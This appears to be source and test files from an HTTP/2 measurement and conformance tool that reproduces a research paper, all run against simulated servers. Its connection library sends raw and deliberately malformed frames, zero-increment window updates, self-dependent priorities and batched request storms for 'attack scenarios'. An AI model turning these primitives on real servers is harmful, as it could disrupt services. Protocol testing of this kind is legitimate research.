	c.encMu.Unlock()
	if err != nil {
		return id, err
	}
	if err := c.fr.Flush(); err != nil {
		return id, fmt.Errorf("h2conn: open stream %d: %w", id, err)
	}
	return id, nil
}

// WriteData sends a DATA frame on streamID. The payload is not checked
// against the peer's flow-control windows: probes and attack scenarios need
// to send exactly what they choose, including zero-length frames.
func (c *Conn) WriteData(streamID uint32, endStream bool, data []byte) error {
	return c.flushAfter(c.fr.WriteData(streamID, endStream, data))
}

// writeRequestLocked encodes and writes one request HEADERS frame; the
// caller holds encMu and flushes afterwards.
func (c *Conn) writeRequestLocked(id uint32, req Request, endStream bool) error {
	c.encBuf = c.enc.AppendBlock(c.encBuf[:0], req.fields(c.opts.Impersonate))
	err := c.fr.WriteHeaders(frame.HeadersParams{
		StreamID:   id,
		Fragment:   c.encBuf,
		EndStream:  endStream,
		EndHeaders: true,
		Priority:   req.Priority,
	})
	if err != nil {
		return fmt.Errorf("h2conn: open stream %d: %w", id, err)
	}
	if c.opts.Metrics != nil {
		c.opts.Metrics.streamsOpened.Inc()
	}
	return nil
}

// OpenStreams opens one stream per request, writing all HEADERS frames
// back-to-back and flushing them to the wire in a single write — the
// request-storm pattern h2load uses to mimic nghttp2's batched submission.
// It returns the stream ID assigned to each request; on a write error the
// IDs opened so far are returned with the error.
func (c *Conn) OpenStreams(reqs []Request) ([]uint32, error) {
	ids := make([]uint32, 0, len(reqs))
	c.encMu.Lock()
	for _, req := range reqs {
		id := c.NextStreamID()
		if err := c.writeRequestLocked(id, req, true); err != nil {
			c.encMu.Unlock()
			return ids, err
		}
		ids = append(ids, id)
	}
	c.encMu.Unlock()
	if err := c.fr.Flush(); err != nil {
		return ids, fmt.Errorf("h2conn: open streams: %w", err)
	}
	return ids, nil
}

// flushAfter completes a single-frame send on the coalescing framer: the
// frame is already in the pending buffer, so push it to the wire unless the
// write itself failed.
func (c *Conn) flushAfter(err error) error {
	if err != nil {
		return err
	}
	return c.fr.Flush()
}

// WriteSettings sends a SETTINGS frame mid-connection.
func (c *Conn) WriteSettings(settings ...frame.Setting) error {
	return c.flushAfter(c.fr.WriteSettings(settings...))
}

// WriteWindowUpdate sends a WINDOW_UPDATE; increment 0 is sent verbatim.
func (c *Conn) WriteWindowUpdate(streamID, increment uint32) error {
	return c.flushAfter(c.fr.WriteWindowUpdate(streamID, increment))
}

// WritePriority sends a PRIORITY frame; self-dependencies are sent verbatim.
func (c *Conn) WritePriority(streamID uint32, p frame.PriorityParam) error {
	return c.flushAfter(c.fr.WritePriority(streamID, p))
}

// WriteRSTStream resets a stream.
func (c *Conn) WriteRSTStream(streamID uint32, code frame.ErrCode) error {
	err := c.flushAfter(c.fr.WriteRSTStream(streamID, code))
	if err == nil && c.opts.Metrics != nil {
		c.opts.Metrics.resetsSent.Inc()
	}
	return err
}

// WriteRawFrame sends an arbitrary frame verbatim — the escape hatch for
// conformance checks that need deliberately malformed frames.
func (c *Conn) WriteRawFrame(t frame.Type, flags frame.Flags, streamID uint32, payload []byte) error {
	return c.flushAfter(c.fr.WriteRawFrame(t, flags, streamID, payload))
}

// WriteHeadersRaw sends a HEADERS frame with a caller-supplied (possibly
// invalid) header block fragment, bypassing the HPACK encoder.
func (c *Conn) WriteHeadersRaw(streamID uint32, fragment []byte, endStream, endHeaders bool) error {
	return c.flushAfter(c.fr.WriteHeaders(frame.HeadersParams{
		StreamID:   streamID,
		Fragment:   fragment,
		EndStream:  endStream,
		EndHeaders: endHeaders,
	}))
}

// WritePing sends a PING without waiting for the acknowledgment.
func (c *Conn) WritePing(data [8]byte) error {
	return c.flushAfter(c.fr.WritePing(false, data))
}

// WriteUnknownFrame sends a frame of an arbitrary (possibly unknown) type
// on stream 0; RFC 7540 section 4.1 requires peers to ignore types they do
// not understand.
func (c *Conn) WriteUnknownFrame(t frame.Type, flags frame.Flags, payload []byte) error {
	return c.flushAfter(c.fr.WriteRawFrame(t, flags, 0, payload))
}

// Ping sends a PING and waits for the matching ACK, returning the RTT.
func (c *Conn) Ping(data [8]byte, timeout time.Duration) (time.Duration, error) {
	start := time.Now()
	if err := c.flushAfter(c.fr.WritePing(false, data)); err != nil {
		return 0, fmt.Errorf("h2conn: ping: %w", err)
	}
	events, err := c.WaitFor(timeout, func(evs []Event) bool {
		for _, e := range evs {
			if e.Type == frame.TypePing && e.IsAck() && e.PingData == data {
				return true
			}
		}
		return false
	})
	if err != nil {
		return 0, err
	}
	for _, e := range events {
		if e.Type == frame.TypePing && e.IsAck() && e.PingData == data {
			return e.At.Sub(start), nil
		}
	}
	return 0, ErrTimeout
}

// --- response assembly ---

// Response aggregates the events of one stream.
type Response struct {
	StreamID uint32
	// Headers is the decoded response header list (first HEADERS block).
	Headers []hpack.HeaderField
	// HeaderBlockLen is the encoded size of that block — the S_header of
	// the paper's compression-ratio formula.
	HeaderBlockLen int
	// Body is the concatenated DATA payload.
	Body []byte
	// DataFrameSizes lists each DATA frame's payload length in order.
	DataFrameSizes []int
	// FirstDataSeq and LastDataSeq are global receive indexes of the
	// stream's first and last DATA frames (-1 if none).
	FirstDataSeq int
	LastDataSeq  int
	// HeadersSeq is the receive index of the HEADERS frame (-1 if none).
	HeadersSeq int
	// EndStream reports whether the response completed.
	EndStream bool
	// Reset holds the RST_STREAM code if the stream was reset.
	Reset *frame.ErrCode
}

// Status returns the :status pseudo-header, or "" when headers are absent.
func (r *Response) Status() string {
	for _, f := range r.Headers {
		if f.Name == ":status" {
			return f.Value
		}
	}
	return ""
}

// Header returns the first value of the named header.
func (r *Response) Header(name string) string {
	for _, f := range r.Headers {
		if f.Name == name {
			return f.Value
		}
	}
	return ""
}

// AssembleResponse builds the Response view of streamID from an event
// snapshot.
func AssembleResponse(events []Event, streamID uint32) *Response {
	r := &Response{
		StreamID:     streamID,
		FirstDataSeq: -1,
		LastDataSeq:  -1,
		HeadersSeq:   -1,
	}
	for _, e := range events {
		if e.StreamID != streamID {
			continue
		}
		switch e.Type {
		case frame.TypeHeaders:
			if r.HeadersSeq < 0 {
				r.HeadersSeq = e.Seq
				r.Headers = e.Headers
				r.HeaderBlockLen = e.HeaderBlockLen
			}
			if e.StreamEnded() {
				r.EndStream = true
			}
		case frame.TypeData:
			if r.FirstDataSeq < 0 {
				r.FirstDataSeq = e.Seq
			}
			r.LastDataSeq = e.Seq
			r.Body = append(r.Body, e.Data...)
			r.DataFrameSizes = append(r.DataFrameSizes, len(e.Data))
			if e.StreamEnded() {
				r.EndStream = true
			}
		case frame.TypeRSTStream:
			code := e.ErrCode
			r.Reset = &code
		}
	}
	return r
}

// FetchBody opens a stream for req and waits for the complete response.
// It requires auto window updates (DefaultOptions) for bodies larger than
// the initial windows.
func (c *Conn) FetchBody(req Request, timeout time.Duration) (*Response, error) {
	id, err := c.OpenStream(req)
	if err != nil {
		return nil, err
	}
	events, err := c.WaitFor(timeout, func(evs []Event) bool {
		for _, e := range evs {
			if e.StreamID != id {
				continue
			}
			if e.StreamEnded() || e.Type == frame.TypeRSTStream {
				return true
			}
		}
		return false
	})
	resp := AssembleResponse(events, id)
	if err != nil && !resp.EndStream && resp.Reset == nil {
		return resp, err
	}
	return resp, nil
}
