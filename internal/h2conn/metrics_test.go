package h2conn_test

import (
	"testing"
	"time"

	"h2scope/internal/h2conn"
	"h2scope/internal/metrics"
	"h2scope/internal/netsim"
	"h2scope/internal/server"
)

func snapshotValue(t *testing.T, r *metrics.Registry, name string) int64 {
	t.Helper()
	for _, m := range r.Snapshot() {
		if m.Name == name {
			return m.Value
		}
	}
	t.Fatalf("metric %q not registered", name)
	return 0
}

// TestDialInstrumented runs two requests over an instrumented connection and
// checks the h2_conn_* counters, including the exactly-once close accounting
// (Close after a dead read loop must not double count).
func TestDialInstrumented(t *testing.T) {
	srv := server.New(server.H2OProfile(), server.DefaultSite("m.example"))
	l := netsim.NewListener("h2conn-metrics")
	go func() {
		_ = srv.Serve(l)
	}()
	t.Cleanup(srv.Close)

	r := metrics.NewRegistry()
	m := h2conn.NewMetrics(r)
	nc, err := l.Dial()
	if err != nil {
		t.Fatal(err)
	}
	opts := h2conn.DefaultOptions()
	opts.Metrics = m
	conn, err := h2conn.Dial(nc, opts)
	if err != nil {
		t.Fatal(err)
	}
	for i := 0; i < 2; i++ {
		if _, err := conn.FetchBody(h2conn.Request{Authority: "m.example", Path: "/about.html"}, 5*time.Second); err != nil {
			t.Fatalf("fetch %d: %v", i, err)
		}
	}
	if err := conn.Close(); err != nil {
		t.Fatal(err)
	}
	// Close twice: the sync.Once must keep the closed count at one.
	_ = conn.Close()

	if got := snapshotValue(t, r, "h2_conn_opened_total"); got != 1 {
		t.Errorf("h2_conn_opened_total = %d, want 1", got)
	}
	if got := snapshotValue(t, r, "h2_conn_closed_total"); got != 1 {
		t.Errorf("h2_conn_closed_total = %d, want 1", got)
	}
	if got := snapshotValue(t, r, "h2_conn_streams_opened_total"); got != 2 {
		t.Errorf("h2_conn_streams_opened_total = %d, want 2", got)
	}
	if got := snapshotValue(t, r, metrics.Label("h2_frames_read_total", "type", "HEADERS")); got < 2 {
		t.Errorf("HEADERS frames read = %d, want >= 2", got)
	}
}
