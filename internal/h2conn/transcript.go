package h2conn

import (
	"fmt"
	"strings"

	"h2scope/internal/frame"
	"h2scope/internal/trace"
)

// FormatEvents renders an event log as a human-readable frame transcript,
// one line per frame, relative-timestamped from the first event. Probes and
// the CLI use it for diagnostics; it is the reproduction's equivalent of
// the wire captures the paper's authors inspected when validating H2Scope
// against open-source servers (Section V-A).
//
// The line format is internal/trace's shared frame-line renderer — this
// function is a thin adapter that maps each decoded event onto a trace
// event and contributes only the payload detail the decoded log carries
// (header fields, settings values, error codes) that raw frame headers do
// not. The log itself is bounded by Options.EventLogLimit, so a transcript
// never grows without bound either.
func FormatEvents(events []Event) string {
	if len(events) == 0 {
		return "(no frames)\n"
	}
	var b strings.Builder
	start := events[0].At
	for _, e := range events {
		b.WriteString(trace.FormatFrameLine(start, trace.Event{
			Seq:       uint64(e.Seq),
			At:        e.At,
			Kind:      trace.KindFrameRecv,
			StreamID:  e.StreamID,
			FrameType: e.Type,
			Flags:     e.Flags,
			Length:    e.PayloadLen,
		}, eventDetail(e)))
	}
	return b.String()
}

func eventDetail(e Event) string {
	var parts []string
	// Flag 0x1 means END_STREAM only on DATA and HEADERS; on SETTINGS and
	// PING it is ACK.
	if e.StreamEnded() && (e.Type == frame.TypeData || e.Type == frame.TypeHeaders) {
		parts = append(parts, "END_STREAM")
	}
	switch e.Type {
	case frame.TypeSettings:
		if e.IsAck() {
			parts = append(parts, "ACK")
		} else {
			for _, s := range e.Settings {
				parts = append(parts, s.String())
			}
		}
	case frame.TypePing:
		if e.IsAck() {
			parts = append(parts, "ACK")
		}
		parts = append(parts, fmt.Sprintf("payload=%x", e.PingData))
	case frame.TypeHeaders, frame.TypePushPromise:
		for _, hf := range e.Headers {
			if hf.Name == ":status" || hf.Name == ":path" {
				parts = append(parts, hf.Name+"="+hf.Value)
			}
		}
		if e.Type == frame.TypePushPromise {
			parts = append(parts, fmt.Sprintf("promised=%d", e.PromiseID))
		}
	case frame.TypeData:
		parts = append(parts, fmt.Sprintf("payload=%dB", len(e.Data)))
	case frame.TypeRSTStream:
		parts = append(parts, e.ErrCode.String())
	case frame.TypeGoAway:
		parts = append(parts, e.ErrCode.String(), fmt.Sprintf("last=%d", e.LastStreamID))
		if len(e.DebugData) > 0 {
			parts = append(parts, fmt.Sprintf("debug=%q", e.DebugData))
		}
	case frame.TypeWindowUpdate:
		parts = append(parts, fmt.Sprintf("increment=%d", e.Increment))
	}
	return strings.Join(parts, " ")
}
