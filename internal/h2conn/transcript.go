package h2conn

import (
	"fmt"
	"strings"
	"time"

	"h2scope/internal/frame"
)

// FormatEvents renders an event log as a human-readable frame transcript,
// one line per frame, relative-timestamped from the first event. Probes and
// the CLI use it for diagnostics; it is the reproduction's equivalent of
// the wire captures the paper's authors inspected when validating H2Scope
// against open-source servers (Section V-A).
func FormatEvents(events []Event) string {
	if len(events) == 0 {
		return "(no frames)\n"
	}
	var b strings.Builder
	start := events[0].At
	for _, e := range events {
		fmt.Fprintf(&b, "%8.3fms  #%-3d %-13s stream=%-4d len=%-6d %s\n",
			float64(e.At.Sub(start))/float64(time.Millisecond),
			e.Seq, e.Type, e.StreamID, e.PayloadLen, eventDetail(e))
	}
	return b.String()
}

func eventDetail(e Event) string {
	var parts []string
	// Flag 0x1 means END_STREAM only on DATA and HEADERS; on SETTINGS and
	// PING it is ACK.
	if e.StreamEnded() && (e.Type == frame.TypeData || e.Type == frame.TypeHeaders) {
		parts = append(parts, "END_STREAM")
	}
	switch e.Type {
	case frame.TypeSettings:
		if e.IsAck() {
			parts = append(parts, "ACK")
		} else {
			for _, s := range e.Settings {
				parts = append(parts, s.String())
			}
		}
	case frame.TypePing:
		if e.IsAck() {
			parts = append(parts, "ACK")
		}
		parts = append(parts, fmt.Sprintf("payload=%x", e.PingData))
	case frame.TypeHeaders, frame.TypePushPromise:
		for _, hf := range e.Headers {
			if hf.Name == ":status" || hf.Name == ":path" {
				parts = append(parts, hf.Name+"="+hf.Value)
			}
		}
		if e.Type == frame.TypePushPromise {
			parts = append(parts, fmt.Sprintf("promised=%d", e.PromiseID))
		}
	case frame.TypeData:
		parts = append(parts, fmt.Sprintf("payload=%dB", len(e.Data)))
	case frame.TypeRSTStream:
		parts = append(parts, e.ErrCode.String())
	case frame.TypeGoAway:
		parts = append(parts, e.ErrCode.String(), fmt.Sprintf("last=%d", e.LastStreamID))
		if len(e.DebugData) > 0 {
			parts = append(parts, fmt.Sprintf("debug=%q", e.DebugData))
		}
	case frame.TypeWindowUpdate:
		parts = append(parts, fmt.Sprintf("increment=%d", e.Increment))
	}
	return strings.Join(parts, " ")
}
