package h2conn_test

import (
	"errors"
	"io"
	"strings"
	"testing"
	"time"

	"h2scope/internal/frame"
	"h2scope/internal/h2conn"
	"h2scope/internal/hpack"
	"h2scope/internal/netsim"
	"h2scope/internal/server"
)

// fakeServer gives tests frame-level control over the server side of a
// connection: it consumes the preface and exposes a framer plus the decoded
// client requests.
type fakeServer struct {
	t  *testing.T
	nc *netsim.Conn
	fr *frame.Framer
	// enc encodes response headers.
	enc *hpack.Encoder
	dec *hpack.Decoder
}

func dialFake(t *testing.T, opts h2conn.Options) (*h2conn.Conn, *fakeServer) {
	t.Helper()
	clientNC, serverNC := netsim.Pipe()
	c, err := h2conn.Dial(clientNC, opts)
	if err != nil {
		t.Fatalf("Dial: %v", err)
	}
	t.Cleanup(func() {
		_ = c.Close()
	})
	fs := &fakeServer{
		t:   t,
		nc:  serverNC,
		fr:  frame.NewFramer(serverNC, serverNC),
		enc: hpack.NewEncoder(hpack.PolicyIndexAll),
		dec: hpack.NewDecoder(hpack.DefaultDynamicTableSize),
	}
	t.Cleanup(func() {
		_ = serverNC.Close()
	})
	buf := make([]byte, len(frame.ClientPreface))
	if _, err := io.ReadFull(serverNC, buf); err != nil {
		t.Fatalf("reading preface: %v", err)
	}
	if string(buf) != frame.ClientPreface {
		t.Fatalf("preface = %q", buf)
	}
	return c, fs
}

// expectFrame reads frames until one of the wanted type arrives. The frame
// is detached with CopyPayload so callers may keep it across further reads.
func (fs *fakeServer) expectFrame(want frame.Type) frame.Frame {
	fs.t.Helper()
	for i := 0; i < 32; i++ {
		f, err := fs.fr.ReadFrame()
		if err != nil {
			fs.t.Fatalf("ReadFrame: %v", err)
		}
		if f.Header().Type == want {
			return frame.CopyPayload(f)
		}
	}
	fs.t.Fatalf("no %v frame in 32 reads", want)
	return nil
}

func TestDialSendsPrefaceAndSettings(t *testing.T) {
	_, fs := dialFake(t, h2conn.Options{
		Settings: []frame.Setting{{ID: frame.SettingInitialWindowSize, Val: 123}},
	})
	sf, ok := fs.expectFrame(frame.TypeSettings).(*frame.SettingsFrame)
	if !ok || sf.IsAck() {
		t.Fatalf("first frame = %+v", sf)
	}
	if v, found := sf.Value(frame.SettingInitialWindowSize); !found || v != 123 {
		t.Errorf("INITIAL_WINDOW_SIZE = %d,%v", v, found)
	}
}

func TestAutoSettingsAck(t *testing.T) {
	_, fs := dialFake(t, h2conn.Options{AutoSettingsAck: true})
	fs.expectFrame(frame.TypeSettings) // client settings
	if err := fs.fr.WriteSettings(); err != nil {
		t.Fatal(err)
	}
	ack := fs.expectFrame(frame.TypeSettings).(*frame.SettingsFrame)
	if !ack.IsAck() {
		t.Fatal("client did not ACK server SETTINGS")
	}
}

func TestAutoPingAck(t *testing.T) {
	_, fs := dialFake(t, h2conn.Options{AutoPingAck: true})
	fs.expectFrame(frame.TypeSettings)
	data := [8]byte{9, 8, 7, 6, 5, 4, 3, 2}
	if err := fs.fr.WritePing(false, data); err != nil {
		t.Fatal(err)
	}
	ack := fs.expectFrame(frame.TypePing).(*frame.PingFrame)
	if !ack.IsAck() || ack.Data != data {
		t.Fatalf("ack = %+v", ack)
	}
}

func TestOpenStreamEncodesRequest(t *testing.T) {
	c, fs := dialFake(t, h2conn.Options{})
	fs.expectFrame(frame.TypeSettings)
	id, err := c.OpenStream(h2conn.Request{
		Authority: "test.example",
		Path:      "/x",
		Extra:     []hpack.HeaderField{{Name: "x-probe", Value: "1"}},
	})
	if err != nil {
		t.Fatal(err)
	}
	if id != 1 {
		t.Errorf("first stream id = %d, want 1", id)
	}
	hf := fs.expectFrame(frame.TypeHeaders).(*frame.HeadersFrame)
	if !hf.StreamEnded() || !hf.HeadersEnded() {
		t.Error("missing END_STREAM/END_HEADERS")
	}
	fields, err := fs.dec.DecodeFull(hf.Fragment)
	if err != nil {
		t.Fatal(err)
	}
	got := map[string]string{}
	for _, f := range fields {
		got[f.Name] = f.Value
	}
	if got[":method"] != "GET" || got[":path"] != "/x" || got[":authority"] != "test.example" ||
		got[":scheme"] != "https" || got["x-probe"] != "1" {
		t.Errorf("decoded request = %v", got)
	}

	// Stream IDs advance by 2.
	id2, err := c.OpenStream(h2conn.Request{Authority: "test.example"})
	if err != nil {
		t.Fatal(err)
	}
	if id2 != 3 {
		t.Errorf("second stream id = %d, want 3", id2)
	}
}

func TestEventLogAndHeaderDecoding(t *testing.T) {
	c, fs := dialFake(t, h2conn.Options{})
	fs.expectFrame(frame.TypeSettings)
	id, err := c.OpenStream(h2conn.Request{Authority: "a", Path: "/"})
	if err != nil {
		t.Fatal(err)
	}
	fs.expectFrame(frame.TypeHeaders)

	block := fs.enc.EncodeBlock([]hpack.HeaderField{
		{Name: ":status", Value: "200"},
		{Name: "server", Value: "fake/1"},
	})
	if err := fs.fr.WriteHeaders(frame.HeadersParams{
		StreamID: id, Fragment: block, EndHeaders: true,
	}); err != nil {
		t.Fatal(err)
	}
	if err := fs.fr.WriteData(id, true, []byte("hello")); err != nil {
		t.Fatal(err)
	}
	events, err := c.WaitFor(2*time.Second, func(evs []h2conn.Event) bool {
		for _, e := range evs {
			if e.Type == frame.TypeData && e.StreamEnded() {
				return true
			}
		}
		return false
	})
	if err != nil {
		t.Fatalf("WaitFor: %v", err)
	}
	resp := h2conn.AssembleResponse(events, id)
	if resp.Status() != "200" || resp.Header("server") != "fake/1" {
		t.Errorf("resp headers = %v", resp.Headers)
	}
	if string(resp.Body) != "hello" {
		t.Errorf("body = %q", resp.Body)
	}
	if resp.HeaderBlockLen != len(block) {
		t.Errorf("HeaderBlockLen = %d, want %d", resp.HeaderBlockLen, len(block))
	}
	if !resp.EndStream || resp.FirstDataSeq < 0 || resp.LastDataSeq < resp.FirstDataSeq {
		t.Errorf("resp = %+v", resp)
	}
}

func TestContinuationReassembly(t *testing.T) {
	c, fs := dialFake(t, h2conn.Options{})
	fs.expectFrame(frame.TypeSettings)
	id, err := c.OpenStream(h2conn.Request{Authority: "a"})
	if err != nil {
		t.Fatal(err)
	}
	fs.expectFrame(frame.TypeHeaders)

	block := fs.enc.EncodeBlock([]hpack.HeaderField{
		{Name: ":status", Value: "200"},
		{Name: "x-long", Value: "a-header-value-split-across-frames"},
	})
	half := len(block) / 2
	if err := fs.fr.WriteHeaders(frame.HeadersParams{
		StreamID: id, Fragment: block[:half], EndHeaders: false, EndStream: true,
	}); err != nil {
		t.Fatal(err)
	}
	if err := fs.fr.WriteContinuation(id, true, block[half:]); err != nil {
		t.Fatal(err)
	}
	events, err := c.WaitFor(2*time.Second, func(evs []h2conn.Event) bool {
		for _, e := range evs {
			if e.Type == frame.TypeHeaders && e.StreamID == id {
				return true
			}
		}
		return false
	})
	if err != nil {
		t.Fatalf("WaitFor: %v", err)
	}
	resp := h2conn.AssembleResponse(events, id)
	if resp.Header("x-long") != "a-header-value-split-across-frames" {
		t.Errorf("headers = %v", resp.Headers)
	}
	if resp.HeaderBlockLen != len(block) {
		t.Errorf("HeaderBlockLen = %d, want %d", resp.HeaderBlockLen, len(block))
	}
}

func TestPingMeasuresRTT(t *testing.T) {
	c, fs := dialFake(t, h2conn.Options{})
	fs.expectFrame(frame.TypeSettings)
	go func() {
		f := fs.expectFrame(frame.TypePing).(*frame.PingFrame)
		time.Sleep(10 * time.Millisecond)
		_ = fs.fr.WritePing(true, f.Data)
	}()
	rtt, err := c.Ping([8]byte{1}, 2*time.Second)
	if err != nil {
		t.Fatalf("Ping: %v", err)
	}
	if rtt < 10*time.Millisecond {
		t.Errorf("rtt = %v, want >= 10ms", rtt)
	}
}

func TestWaitForTimeout(t *testing.T) {
	c, fs := dialFake(t, h2conn.Options{})
	_ = fs
	start := time.Now()
	_, err := c.WaitFor(50*time.Millisecond, func([]h2conn.Event) bool { return false })
	if !errors.Is(err, h2conn.ErrTimeout) {
		t.Fatalf("err = %v, want ErrTimeout", err)
	}
	if time.Since(start) < 50*time.Millisecond {
		t.Error("returned before timeout")
	}
}

func TestWaitForConnClosed(t *testing.T) {
	c, fs := dialFake(t, h2conn.Options{})
	go func() {
		time.Sleep(20 * time.Millisecond)
		_ = fs.nc.Close()
	}()
	_, err := c.WaitFor(2*time.Second, func([]h2conn.Event) bool { return false })
	if !errors.Is(err, h2conn.ErrConnClosed) {
		t.Fatalf("err = %v, want ErrConnClosed", err)
	}
	if c.ReadErr() == nil {
		t.Error("ReadErr() = nil after close")
	}
}

func TestGoAwayEventCarriesDebugData(t *testing.T) {
	c, fs := dialFake(t, h2conn.Options{})
	fs.expectFrame(frame.TypeSettings)
	if err := fs.fr.WriteGoAway(7, frame.ErrCodeProtocol, []byte("zero increment")); err != nil {
		t.Fatal(err)
	}
	events, err := c.WaitFor(2*time.Second, func(evs []h2conn.Event) bool {
		for _, e := range evs {
			if e.Type == frame.TypeGoAway {
				return true
			}
		}
		return false
	})
	if err != nil {
		t.Fatal(err)
	}
	for _, e := range events {
		if e.Type == frame.TypeGoAway {
			if e.ErrCode != frame.ErrCodeProtocol || string(e.DebugData) != "zero increment" ||
				e.LastStreamID != 7 {
				t.Errorf("GOAWAY event = %+v", e)
			}
			return
		}
	}
	t.Fatal("no GOAWAY event recorded")
}

func TestAutoWindowUpdateRefillsAfterData(t *testing.T) {
	c, fs := dialFake(t, h2conn.Options{
		AutoStreamWindow: 4096,
		AutoConnWindow:   8192,
	})
	fs.expectFrame(frame.TypeSettings)
	id, err := c.OpenStream(h2conn.Request{Authority: "a"})
	if err != nil {
		t.Fatal(err)
	}
	fs.expectFrame(frame.TypeHeaders)
	if err := fs.fr.WriteData(id, false, []byte("xxxx")); err != nil {
		t.Fatal(err)
	}
	// Auto flow control replenishes exactly the consumed octets.
	var gotStream, gotConn bool
	for i := 0; i < 4 && !(gotStream && gotConn); i++ {
		wu := fs.expectFrame(frame.TypeWindowUpdate).(*frame.WindowUpdateFrame)
		switch wu.Header().StreamID {
		case id:
			gotStream = wu.Increment == 4
		case 0:
			gotConn = wu.Increment == 4
		}
	}
	if !gotStream || !gotConn {
		t.Errorf("window updates: stream=%v conn=%v", gotStream, gotConn)
	}
}

func TestWaitSettings(t *testing.T) {
	c, fs := dialFake(t, h2conn.Options{})
	fs.expectFrame(frame.TypeSettings)
	if err := fs.fr.WriteSettings(frame.Setting{ID: frame.SettingMaxConcurrentStreams, Val: 77}); err != nil {
		t.Fatal(err)
	}
	ev, err := c.WaitSettings(2 * time.Second)
	if err != nil {
		t.Fatalf("WaitSettings: %v", err)
	}
	if len(ev.Settings) != 1 || ev.Settings[0].Val != 77 {
		t.Errorf("settings = %v", ev.Settings)
	}
}

func TestFormatEventsTranscript(t *testing.T) {
	c, fs := dialFake(t, h2conn.Options{})
	fs.expectFrame(frame.TypeSettings)
	if err := fs.fr.WriteSettings(frame.Setting{ID: frame.SettingMaxConcurrentStreams, Val: 5}); err != nil {
		t.Fatal(err)
	}
	if err := fs.fr.WriteGoAway(3, frame.ErrCodeProtocol, []byte("bye")); err != nil {
		t.Fatal(err)
	}
	events, err := c.WaitFor(2*time.Second, func(evs []h2conn.Event) bool {
		return len(evs) >= 2
	})
	if err != nil {
		t.Fatal(err)
	}
	out := h2conn.FormatEvents(events)
	for _, want := range []string{"SETTINGS", "SETTINGS_MAX_CONCURRENT_STREAMS=5", "GOAWAY", "PROTOCOL_ERROR", `debug="bye"`} {
		if !strings.Contains(out, want) {
			t.Errorf("transcript missing %q:\n%s", want, out)
		}
	}
	if got := h2conn.FormatEvents(nil); got != "(no frames)\n" {
		t.Errorf("empty transcript = %q", got)
	}
}

func TestPushPromiseWithContinuation(t *testing.T) {
	c, fs := dialFake(t, h2conn.Options{})
	fs.expectFrame(frame.TypeSettings)
	if _, err := c.OpenStream(h2conn.Request{Authority: "a", Path: "/"}); err != nil {
		t.Fatal(err)
	}
	fs.expectFrame(frame.TypeHeaders)

	block := fs.enc.EncodeBlock([]hpack.HeaderField{
		{Name: ":method", Value: "GET"},
		{Name: ":path", Value: "/pushed-resource-with-a-long-path.css"},
	})
	half := len(block) / 2
	if err := fs.fr.WritePushPromise(1, 2, false, block[:half]); err != nil {
		t.Fatal(err)
	}
	if err := fs.fr.WriteContinuation(1, true, block[half:]); err != nil {
		t.Fatal(err)
	}
	events, err := c.WaitFor(2*time.Second, func(evs []h2conn.Event) bool {
		for _, e := range evs {
			if e.Type == frame.TypePushPromise {
				return true
			}
		}
		return false
	})
	if err != nil {
		t.Fatal(err)
	}
	for _, e := range events {
		if e.Type != frame.TypePushPromise {
			continue
		}
		if e.PromiseID != 2 {
			t.Errorf("PromiseID = %d, want 2", e.PromiseID)
		}
		found := false
		for _, hf := range e.Headers {
			if hf.Name == ":path" && strings.Contains(hf.Value, "long-path") {
				found = true
			}
		}
		if !found {
			t.Errorf("reassembled push headers = %v", e.Headers)
		}
		return
	}
	t.Fatal("no PUSH_PROMISE event")
}

func TestWaitQuietReturnsAfterIdle(t *testing.T) {
	c, fs := dialFake(t, h2conn.Options{})
	fs.expectFrame(frame.TypeSettings)
	go func() {
		for i := 0; i < 3; i++ {
			_ = fs.fr.WritePing(true, [8]byte{byte(i)})
			time.Sleep(5 * time.Millisecond)
		}
	}()
	events := c.WaitQuiet(40*time.Millisecond, 2*time.Second)
	if len(events) < 3 {
		t.Errorf("events = %d, want >= 3", len(events))
	}
}

func TestCloseIsIdempotentAndUnblocksWaiters(t *testing.T) {
	c, _ := dialFake(t, h2conn.Options{})
	done := make(chan error, 1)
	go func() {
		_, err := c.WaitFor(5*time.Second, func([]h2conn.Event) bool { return false })
		done <- err
	}()
	time.Sleep(10 * time.Millisecond)
	if err := c.Close(); err != nil {
		t.Fatalf("Close: %v", err)
	}
	if err := c.Close(); err != nil {
		t.Fatalf("second Close: %v", err)
	}
	select {
	case err := <-done:
		if !errors.Is(err, h2conn.ErrConnClosed) {
			t.Fatalf("waiter got %v, want ErrConnClosed", err)
		}
	case <-time.After(2 * time.Second):
		t.Fatal("waiter not unblocked by Close")
	}
}

func TestEventLogLimitBoundsRetention(t *testing.T) {
	c, fs := dialFake(t, h2conn.Options{EventLogLimit: 8})
	fs.expectFrame(frame.TypeSettings)
	for i := 0; i < 40; i++ {
		if err := fs.fr.WritePing(true, [8]byte{byte(i)}); err != nil {
			t.Fatal(err)
		}
	}
	events, err := c.WaitFor(2*time.Second, func(evs []h2conn.Event) bool {
		return len(evs) > 0 && evs[len(evs)-1].PingData[0] == 39
	})
	if err != nil {
		t.Fatalf("WaitFor: %v", err)
	}
	if len(events) > 8 {
		t.Errorf("retained %d events, limit 8", len(events))
	}
	// Seq numbering stays absolute despite pruning.
	last := events[len(events)-1]
	if last.Seq != 39 { // 40 pings, 0-based
		t.Errorf("last Seq = %d, want 39", last.Seq)
	}
	for i := 1; i < len(events); i++ {
		if events[i].Seq != events[i-1].Seq+1 {
			t.Fatalf("non-contiguous Seq after trim: %d then %d", events[i-1].Seq, events[i].Seq)
		}
	}
}

func TestLongLivedConnectionSurvivesManyRequests(t *testing.T) {
	// Regression: blind fixed-increment auto WINDOW_UPDATEs used to
	// overflow the server's connection window after ~2,000 requests and
	// draw GOAWAY(FLOW_CONTROL_ERROR). Replenish-consumed semantics must
	// keep one connection serviceable indefinitely.
	srv := server.New(server.H2OProfile(), server.DefaultSite("long.example"))
	l := netsim.NewListener("long-lived")
	go func() {
		_ = srv.Serve(l)
	}()
	t.Cleanup(srv.Close)
	nc, err := l.Dial()
	if err != nil {
		t.Fatal(err)
	}
	opts := h2conn.DefaultOptions()
	opts.EventLogLimit = 512
	c, err := h2conn.Dial(nc, opts)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = c.Close() })
	n := 3000
	if testing.Short() {
		n = 300
	}
	for i := 0; i < n; i++ {
		resp, err := c.FetchBody(h2conn.Request{Authority: "long.example", Path: "/about.html"}, 5*time.Second)
		if err != nil {
			t.Fatalf("request %d: %v", i, err)
		}
		if resp.Status() != "200" {
			t.Fatalf("request %d: status %q", i, resp.Status())
		}
	}
}
