package h2conn

import (
	"h2scope/internal/frame"
